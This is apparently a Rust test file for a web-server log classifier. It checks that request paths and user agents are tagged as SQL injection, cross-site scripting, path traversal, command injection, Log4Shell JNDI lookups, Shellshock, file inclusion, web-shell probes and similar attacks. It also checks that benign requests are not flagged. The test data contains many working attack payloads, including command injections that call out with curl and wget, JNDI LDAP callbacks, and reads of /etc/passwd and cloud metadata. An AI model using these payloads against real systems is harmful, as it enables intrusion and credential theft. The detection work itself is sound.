use super::*;
use crate::Kind;

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

fn get(target: &str, status: u16) -> Option<Sign> {
    sign("GET", target, status, BROWSER)
}

fn sign(method: &str, target: &str, status: u16, agent: &str) -> Option<Sign> {
    let request = Request {
        method: Some(method),
        target: target.into(),
        status: Some(status),
        is_refused: matches!(status, 400 | 403..=406 | 410),
        agent: Some(agent),
        ..Request::default()
    };
    request.sign()
}

#[track_caller]
fn check(sign: Sign, targets: &[&str]) {
    for target in targets {
        assert_eq!(get(target, 404), Some(sign), "{target}");
    }
}

#[test]
fn the_tables_compile_and_are_small() {
    assert!(TARGET.is_some() && AGENT.is_some() && REFERRER.is_some());
    assert!(memory_bytes() < 8_000_000, "{}", memory_bytes());
}

#[test]
fn statements_of_sql_in_values() {
    check(
        Sign::SqlInjection,
        &[
            "/item?id=1%27%20OR%20%271%27=%271",
            "/item?id=1+or+1=1--+-",
            "/item?id=1)+AND+(2=2",
            "/item?id=1/**/UNION/**/ALL/**/SELECT/**/NULL,NULL,NULL",
            "/item?id=-1+%2f%2a!50000union%2a%2f+select+user,password+from+users",
            "/item?id=1%2527%2520union%2520select%25201,2,3",
            "/item?id=1;drop+table+users",
            "/item?id=(select+count(*)+from+users)",
            "/item?id=1'+order+by+7--+",
            "/item?id=1+and+sleep(5)",
            "/item?id=if(now()=sysdate(),sleep(9),0)",
            "/item?id=1;select+pg_sleep(7)",
            "/item?id=1'%3bwaitfor+delay+'0:0:5'--",
            "/item?id=extractvalue(1,concat(0x7e,version()))",
            "/item?user=admin'--",
            "/item?id=1+procedure+analyse(1)",
            "/item?t=information_schema.columns",
            "/login?password[$ne]=x",
            "/find?filter=*)(uid=*",
        ],
    );
}

#[test]
fn scripts_for_browsers() {
    check(
        Sign::CrossSiteScripting,
        &[
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/?q=%253Cscript%253E",
            "/%3Cscript%20src=//example.org%3E",
            "/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/?q=%3Csvg/onload=confirm(1)%3E",
            "/?next=javascript:alert(document.domain)",
            "/?q='-alert(1)-'",
            "/?q=\\x22onfocus=a(1)",
            "/?q=%u003cscript%u003e",
        ],
    );
}

#[test]
fn paths_that_leave_their_folder() {
    check(
        Sign::PathTraversal,
        &[
            "/../../../../etc/passwd",
            "/static/..%2f..%2f..%2fetc%2fpasswd",
            "/cgi-bin/.%2e/.%2e/x",
            "/a/%252e%252e/%252e%252e/b",
            "/a/%c0%ae%c0%ae/b",
            "/a/..\\..\\windows\\win.ini",
            "/view?file=../../../../boot.ini",
            "/view?template=../",
            "/view?file=/etc/shadow",
            "/view?file=....//....//etc/hosts",
            "/a/..;/manager/x",
            "/view?file=/proc/self/environ",
            "/x.php%00.jpg",
        ],
    );
}

#[test]
fn commands_for_a_shell() {
    check(
        Sign::CommandInjection,
        &[
            "/ping?host=127.0.0.1;cat%20/etc/hostname",
            "/ping?host=127.0.0.1|id",
            "/ping?host=%60whoami%60",
            "/ping?host=$(curl%20example.org)",
            "/ping?host=x%26%26wget%20http://192.0.2.1/a",
            "/ping?host=a;touch%20x.txt",
            "/x?cmd=id",
            "/x?exec=/bin/ls",
            "/x?a=;cat${IFS}x",
            "/cgi-bin/x;uname",
            "/x?a=b;/usr/bin/id",
            "/x?a=1;chmod+777+b",
        ],
    );
}

#[test]
fn expressions_lookups_and_code() {
    check(
        Sign::JndiLookup,
        &[
            "/?x=${jndi:ldap://192.0.2.1/a}",
            "/$%7bjndi:dns://example.org%7d",
            "/?x=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fexample.org%7D",
            "/?x=${${env:NaN:-j}ndi}",
            "/?x=${lower:j}",
        ],
    );
    check(
        Sign::ExpressionInjection,
        &[
            "/?x={{7*7}}",
            "/?x=%24%7B7*7%7D",
            "/%24%7B(%23a%3D%40java.lang.Runtime%40getRuntime())%7D/",
            "/?class.module.classLoader.resources=x",
            "/?x={{''.__class__}}",
            "/?redirect:${1}",
        ],
    );
    check(
        Sign::CodeInjection,
        &[
            "/index.php?p=phpinfo();",
            "/?s=/Index/\\think\\app/invokefunction",
            "/?a=%3C?php%20x",
            "/?-d+allow_url_include%3d1",
            "/?a=eval($_POST[x])",
            "/?__proto__[a]=b",
        ],
    );
    check(Sign::Shellshock, &["/?x=()%20{%20:;};"]);
    check(Sign::HeaderInjection, &["/?x=a%0d%0aSet-Cookie:%20b=c"]);
}

#[test]
fn what_a_server_is_to_fetch() {
    check(
        Sign::FileInclusion,
        &[
            "/index.php?page=php://filter/convert.base64-encode/resource=index",
            "/index.php?page=http://example.org/x.txt?",
            "/index.php?page=https://example.org/a.html??",
            "/fetch?url=file:///etc/hosts",
            "/fetch?url=http://169.254.169.254/latest/meta-data/",
            "/fetch?url=gopher://127.0.0.1:6379/_x",
        ],
    );
}

#[test]
fn published_exploits_and_shells() {
    check(
        Sign::KnownExploit,
        &[
            "/vendor/htmlawed/htmlawed/htmLawedTest.php",
            "/service/extension/backup/mboximport?account-name=admin",
            "/autodiscover/autodiscover.json?a@b.c/Powershell",
            "/hax?jsp=/app/rest/users;.jsp",
            "/s/x/_/;/WEB-INF/web.xml",
            "/lib/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/a.php/login.php",
            "/thumb.php?src=http://example.org/a.php",
            "/setup/setupAdministrator.action",
            "/wls-wsat/CoordinatorPortType",
        ],
    );
    check(Sign::WebShell, &["/uploads/shell.php", "/x_Shell.php", "/webshell2.jsp", "/c99.php", "/wso.php"]);
}

#[test]
fn what_holds_secrets() {
    check(
        Sign::SensitiveFile,
        &[
            "/.env",
            "/app/.env.production",
            "/.git/config",
            "/.gitignore",
            "/.ssh/id_rsa",
            "/.unknown-thing",
            "/db/x.php.bak",
            "/index.php~",
            "/wp-config.php.old",
            "/backup.sql",
            "/server-status",
            "/%2eenv",
            "/WEB-INF/web.xml",
        ],
    );
}

#[test]
fn what_only_asks_whether_something_is_there() {
    check(
        Sign::Absent,
        &[
            "/phpMyAdmin-2.8.2.3/index.php",
            "//pma/scripts/x",
            "/wp-login.php",
            "/blog/wp-admin/",
            "/administrator/",
            "/cgi-bin/tools/x.pl",
            "/admin",
            "/xmlrpc.php?rsd",
        ],
    );
    check(
        Sign::VulnerableEndpoint,
        &["/_ignition/execute-solution", "/HNAP1/", "/setup.cgi", "/sap/bc/ping", "/nwa"],
    );
    assert_eq!(Sign::Absent.kind(), Kind::WebProbe);
    assert_eq!(Sign::SensitiveFile.kind(), Kind::WebAttack);
}

#[test]
fn where_an_application_is_at_home_its_own_places_are_nothing() {
    for target in [
        "/wp-login.php",
        "/wp-admin/",
        "/phpmyadmin/",
        "/admin/users",
        "/xmlrpc.php",
        "/manager/html",
        "/cgi-bin/x.pl",
        "/geoserver/wms",
        "/server-status?auto",
        "/config.php",
        "/.within/x",
        "/dumps/x.sql.gz",
        "/api/jsonws/invoke",
    ] {
        for status in [200, 301, 302, 304, 500] {
            assert_eq!(get(target, status), None, "{target} {status}");
        }
    }
}

#[test]
fn ordinary_requests_are_nothing() {
    for target in [
        "/autodiscover/autodiscover.json?Email=ann@example.org&Protocol=x",
        "/?author=ann",
        "/books?author=3&page=2",
    ] {
        assert_eq!(get(target, 200), None, "{target}");
    }
    for target in [
        "/",
        "/index.html",
        "/favicon.ico",
        "/robots.txt",
        "/.well-known/acme-challenge/x",
        "/apple-touch-icon-120x120.png",
        "/search?q=o'brien",
        "/search?q=select+a+gift+from+our+shop",
        "/search?q=western+union+select+location",
        "/search?country=(Select+One)",
        "/search?q=this+or+that+and+more",
        "/search?q=rock+'n'+roll+--+live",
        "/search?q=how+to+drop+table+weight",
        "/search?q=Update+(2)+released;+update+now",
        "/files/?C=D;O=A",
        "/page;jsessionid=0A1B2C?x=1",
        "/fonts?family=Open+Sans:400,700|Roboto",
        "/tags?t=dog|cat|bird",
        "/login?next=https://example.org/welcome?x=1",
        "/oauth?redirect_uri=http://localhost:3000/callback",
        "/go?url=https%3A%2F%2Fexample.org%2Fa.html%3Fb",
        "/x?utm_campaign=Feed:+site/main+(example.org+-+Ann+Smith)",
        "/calc?e=2*3",
        "/projects/group%2Fproject/issues?state=open",
        "/a/../b.css",
        "/a/../../css/b.css",
        "/images/{{item.src}}",
        "/%3C%=url%%3E",
        "/x?redirect=../index.php",
        "/javascript:void(0)",
        "/style.css?v=1.2.3",
        "/wiki/Bash_(Unix_shell)",
        "/nutshell.php",
        "/bash-scripting;part=2",
        "/api/v1/users/42/sessions",
        "/doc/xp_cmdshell.html",
        "/man/cat.1.html",
        "/x?q=sleep+(film)",
        "/x?q=eval()+in+python",
        "/x?q=document.title",
        "/100%25-cotton?x=%E8%F1%EF",
        "/x?sort=order+by+name",
        "/x?a=1&&b=2&&id=5",
        "/x?text=tea;+echo+of+the+past",
        "/x?q=system(s)",
    ] {
        for status in [200, 304, 404] {
            assert_eq!(get(target, status), None, "{target} {status}");
        }
    }
}

#[test]
fn agents() {
    for (agent, expected) in [
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:1)", Some(Sign::AttackTool)),
        ("sqlmap/1.7#stable (https://sqlmap.org)", Some(Sign::AttackTool)),
        ("Mozilla/5.0 zgrab/0.x", Some(Sign::Scanner)),
        ("${jndi:ldap://192.0.2.9/x}", Some(Sign::JndiLookup)),
        ("%24%7Bjndi:ldap://192.0.2.9/x}", Some(Sign::JndiLookup)),
        ("() { :;}; /bin/bash -c id", Some(Sign::Shellshock)),
        ("curl/8.5.0", None),
        ("Go-http-client/1.1", None),
        ("python-requests/2.31", None),
        ("libwww-perl/6.05", None),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", None),
        ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", None),
        ("-", None),
    ] {
        assert_eq!(sign("GET", "/", 200, agent), expected, "{agent}");
    }
    assert_eq!(sign("GET", "/", 403, "libwww-perl/6.05"), Some(Sign::AttackTool));
    assert_eq!(sign("POST", "/wp-comments-post.php", 302, "msnbot/2.0b"), Some(Sign::FalseCrawler));
    let referred = Request {
        method: Some("GET"),
        target: "/".into(),
        referrer: Some("${jndi:ldap://192.0.2.9/x}"),
        ..Request::default()
    };
    assert_eq!(referred.sign(), Some(Sign::JndiLookup));
}

#[test]
fn logins() {
    for (method, target, status, user, expected) in [
        ("GET", "/private", 401, None, None),
        ("GET", "/private", 401, Some("ann"), Some(Sign::LoginFailed)),
        ("POST", "/api/login", 401, None, Some(Sign::LoginFailed)),
        ("POST", "/wp-login.php", 200, None, Some(Sign::LoginFailed)),
        ("POST", "/wp-login.php", 302, None, Some(Sign::LoginPassed)),
        ("POST", "/apps/login", 200, None, Some(Sign::LoginTried)),
        ("POST", "/api/login", 200, None, Some(Sign::LoginPassed)),
        ("POST", "/api/orders", 200, None, None),
        ("POST", "/api/orders", 403, None, None),
        ("GET", "/login", 200, None, None),
    ] {
        let request = Request {
            method: Some(method),
            target: target.into(),
            status: Some(status),
            user,
            ..Request::default()
        };
        assert_eq!(request.sign(), expected, "{method} {target} {status} {user:?}");
    }
}

/// No text makes it panic, whatever is cut where.
#[test]
fn any_text_is_taken() {
    let pieces = [
        "/",
        "..",
        "%2e",
        "%00",
        ";",
        "|",
        "cat",
        " ",
        "'",
        "or ",
        "1",
        "=",
        "select ",
        "union select",
        "(",
        ")",
        "{{",
        "7",
        "*",
        "${",
        "<",
        "onerror=",
        "alert(",
        "?",
        "&",
        "http://",
        ".php",
        "~",
        "shell",
        "/.",
        "é",
        "\\x4",
        "cmd=",
        "sleep(",
        "\"",
        ",",
        "order by ",
        "`",
        "%c0",
        ":-",
        "${env:",
    ];
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    for _ in 0..20_000 {
        let mut text = String::new();
        for _ in 0..12 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            text.push_str(pieces[(state % pieces.len() as u64) as usize]);
        }
        let request = Request {
            method: Some("GET"),
            target: text.clone().into(),
            agent: Some(&text),
            ..Request::default()
        };
        let again = Request { status: Some(404), is_refused: true, ..request.clone() };
        assert!(request.sign().is_none() || again.sign().is_some(), "a refusal takes nothing back: {text}");
    }
}

fn event(fields: &[(&'static str, event::Value<'static>)], message: &'static str) -> event::Event<'static> {
    let mut event = event::Event::new(message, event::Timestamp::MIN);
    for (path, value) in fields {
        event.set(*path, value.clone());
    }
    event
}

#[test]
fn requests_are_read_from_fields() {
    let status = |status: i64| ("http.response.status_code", event::Value::Int(status));
    let text = |path: &'static str, text: &'static str| (path, event::Value::from(text));
    for (fields, message, expected) in [
        (
            vec![text("http.request.method", "GET"), text("url.original", "/.env"), status(404)],
            "",
            Some(Sign::SensitiveFile),
        ),
        (
            vec![
                text("http.request.method", "GET"),
                text("url.path", "/x"),
                text("url.query", "a=1+or+1=1"),
                status(200),
            ],
            "",
            Some(Sign::SqlInjection),
        ),
        (
            vec![
                text("http.request.method", "GET"),
                text("url.original", "/"),
                text("http.version", "2.1"),
                status(400),
            ],
            "",
            Some(Sign::Malformed),
        ),
        (
            vec![status(400)],
            "192.0.2.7 - - [22/Oct/2026:21:59:01 +0000] \"\\x16\\x03\\x01\" 400 1",
            Some(Sign::Malformed),
        ),
        (
            vec![status(400)],
            "192.0.2.7 - - [22/Oct/2026:21:59:01 +0000] \"\\x03\\x00\\x00/*\\xE0\" 400 1",
            Some(Sign::Malformed),
        ),
        (vec![status(408)], "192.0.2.7 - - [22/Oct/2026:21:59:01 +0000] \"-\" 408 1", None),
        (vec![status(200)], "done", None),
        (
            vec![text("http.request.method", "GET"), text("url.original", "/pma/")],
            "open() \"/srv/pma\" failed (2: No such file or directory), client: 192.0.2.7",
            Some(Sign::Absent),
        ),
        (
            vec![text("http.request.method", "GET"), text("url.original", "/pma/")],
            "connect() failed, client: x (2: No such file or directory)",
            None,
        ),
        (
            vec![text("event.action", "file_not_found"), text("file.path", "/srv/www/phpmyadmin")],
            "",
            Some(Sign::Absent),
        ),
        (vec![text("event.action", "file_not_found"), text("file.path", "/srv/www/favicon.ico")], "", None),
        (
            vec![text("event.action", "malformed_request")],
            "AH00126: Invalid URI in request GET /cgi-bin/.%2e/.%2e/etc/passwd HTTP/1.1",
            Some(Sign::PathTraversal),
        ),
        (vec![text("url.original", "/.env")], "a link", None),
        (vec![], "GET /.env HTTP/1.1", None),
    ] {
        let event = event(&fields, message);
        assert_eq!(Request::of(&event).and_then(|request| request.sign()), expected, "{fields:?} {message}");
    }
}

#[test]
fn a_function_for_bash_has_a_body() {
    assert_eq!(get("/test()%7B%7D123.html", 404), None);
}
